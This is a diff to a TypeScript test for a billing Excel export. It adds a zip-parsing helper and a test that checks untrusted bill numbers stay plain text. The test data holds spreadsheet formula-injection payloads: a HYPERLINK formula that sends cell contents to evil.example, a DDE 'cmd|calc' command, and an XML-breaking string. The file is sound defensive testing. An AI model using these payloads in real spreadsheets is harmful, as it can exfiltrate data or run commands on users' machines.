@@ -1,3 +1,4 @@
+import { inflateRawSync } from 'node:zlib';
 import type { Pool } from '@wattershed/database/pool';
 import { knownAccountNumber } from '@wattershed/domain/account/account-number';
 import { localDate } from '@wattershed/domain/calendar/local-date';
@@ -35,6 +36,20 @@ function sources(pages: number, read: string[]) {
     },
   };
   return { db: undefined as unknown as Pool, gateways: { billingSystem } as unknown as Gateways };
+}
+
+/** The packed parts of the file by their names, read from its list of contents (the zip format, APPNOTE 4.3). */
+function partsOf(workbook: Buffer): Map<string, string> {
+  const parts = new Map<string, string>();
+  const listed = 'PK\x01\x02';
+  for (let at = workbook.indexOf(listed); at >= 0; at = workbook.indexOf(listed, at + 4)) {
+    const name = workbook.toString('utf8', at + 46, at + 46 + workbook.readUInt16LE(at + 28));
+    const entry = workbook.readUInt32LE(at + 42);
+    const from = entry + 30 + workbook.readUInt16LE(entry + 26) + workbook.readUInt16LE(entry + 28);
+    const bytes = workbook.subarray(from, from + workbook.readUInt32LE(at + 20));
+    parts.set(name, (workbook.readUInt16LE(at + 10) === 0 ? bytes : inflateRawSync(bytes)).toString('utf8'));
+  }
+  return parts;
 }
 
 describe('the Excel file', () => {
@@ -78,5 +93,26 @@ describe('a row of the Excel file', () => {
 
   it('has amounts of a bill that lead from the previous balance to the total', () => {
     expect(valuesOf(billRow(dated)).slice(5, 10)).toEqual([100, 40, -5, 86.14, 141.14]);
+  });
+
+  it.each([
+    '=HYPERLINK("https://evil.example?x="&A1,"Pay")',
+    '+1+cmd|calc!A0',
+    '@SUM(1)',
+    '</t></is></c><x>',
+    'a\u0001b',
+  ])('keeps %j as text, whoever chose it', async billNumber => {
+    const listBills = async () => ({ bills: [{ ...dated, billNumber }], nextCursor: null });
+    const gateways = { billingSystem: { listBills } } as unknown as Gateways;
+    const access = systemAccess(knownAccountNumber('100200'), 'a test of the export');
+    const file = await exportWorkbook({ db: undefined as unknown as Pool, gateways }, access, {
+      tab: 'bills',
+      language: 'EN_US',
+    });
+    const parts = [...partsOf(file)].filter(([name]) => name.endsWith('.xml'));
+    expect(parts.length).toBeGreaterThan(3);
+    for (const [name, xml] of parts) {
+      expect([name, ['<f>', '<f ', '<x>', '\u0001'].filter(part => xml.includes(part))]).toEqual([name, []]);
+    }
   });
 });
